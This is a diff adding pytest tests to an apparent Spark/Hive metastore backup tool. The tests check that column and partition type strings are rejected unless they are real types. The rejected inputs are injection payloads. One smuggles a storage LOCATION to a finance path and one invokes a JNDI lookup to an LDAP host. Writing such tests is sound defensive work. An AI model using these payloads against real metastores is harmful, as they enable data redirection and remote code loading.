@@ -113,3 +113,33 @@ def test_what_is_not_the_backup_of_exactly_this_run_is_not_dropped(run_id: str, 
     with pytest.raises(MetastoreError, match="left alone"):
         listed.drop_backup(BACKUP, run_id, source)
     assert listed.told == []
+
+
+@pytest.mark.parametrize(
+    "kind",
+    [
+        "int) STORED AS PARQUET LOCATION 'hdfs://nn/finance' --",
+        "string) || java_method('javax.naming.InitialContext', 'doLookup', 'ldap://x/y'",
+        "struct<a:int>) --",
+        "int -- ",
+        "int /* */",
+        "",
+    ],
+)
+def test_the_type_of_a_column_is_a_type(kind: str) -> None:
+    """Spark reads the schema from a property, which whoever may alter the table may set."""
+    with pytest.raises(MetastoreError, match="is no type"):
+        _backup_ddl(BACKUP, replace(SOURCE, columns=(("id", kind),)), "r1", "hdfs://nn/w")
+    store = Metastore.__new__(Metastore)
+    with pytest.raises(MetastoreError, match="is no type"):
+        store.matching(
+            replace(SOURCE, partition_types=(kind,)), [Unit((("p", "1"),), "hdfs://nn/w/p=1")], "p > 0"
+        )
+
+
+@pytest.mark.parametrize(
+    "kind",
+    ["bigint", "varchar(10)", "decimal(38,18)", "map<string,array<struct<a:char(3),b_c:decimal(5,2)>>>"],
+)
+def test_types_of_all_kinds_are_types(kind: str) -> None:
+    assert kind in _backup_ddl(BACKUP, replace(SOURCE, columns=(("id", kind),)), "r1", "hdfs://nn/w")
